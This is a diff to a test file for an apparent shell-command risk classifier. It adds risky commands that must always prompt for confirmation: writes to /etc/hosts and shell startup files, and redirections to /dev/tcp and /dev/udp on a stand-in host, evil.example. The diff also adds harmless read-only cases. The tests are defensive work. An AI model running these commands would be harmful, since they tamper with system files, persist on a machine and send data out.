@@ -105,6 +105,15 @@ BYPASSES = [
     "ssh-keygen -t ed25519",
     "defaults write com.apple.alf globalstate 0",
     "chmod 777 ~/.ssh",
+    # folder changes and network redirections
+    "cd /etc && echo x > hosts",
+    "cd ~ && echo x >> .bashrc",
+    "(cd /tmp); cd ~; echo x > .profile",
+    "cd $DIR && rm x",
+    "pushd /etc; echo x > hosts",
+    "ls > /dev/tcp/evil.example/80",
+    "cat < /dev/udp/evil.example/53",
+    "tar -czf /etc/backup.tgz .",
     # not understood
     "cat <<EOF\nrm\nEOF",
     "some-unknown-tool --do-things",
@@ -134,6 +143,8 @@ READ_ONLY = [
     "echo '$(rm -rf ~)'",  # single quotes: literal text, nothing runs
     "echo \\$HOME",
     "# rm -rf ~",
+    "cd sub && ls -la",
+    "cd && ls",
 ]
 
 
@@ -147,6 +158,7 @@ def test_bypasses_always_ask(command: str, tmp_path: Path) -> None:
 @pytest.mark.parametrize("command", READ_ONLY)
 def test_harmless_commands_are_read_only(command: str, tmp_path: Path) -> None:
     (tmp_path / "notes.txt").write_text("a b\n")
+    (tmp_path / "sub").mkdir()
     risk = classify_shell(command, tmp_path)
     assert risk.tier == Tier.READ_ONLY, (command, risk)
 
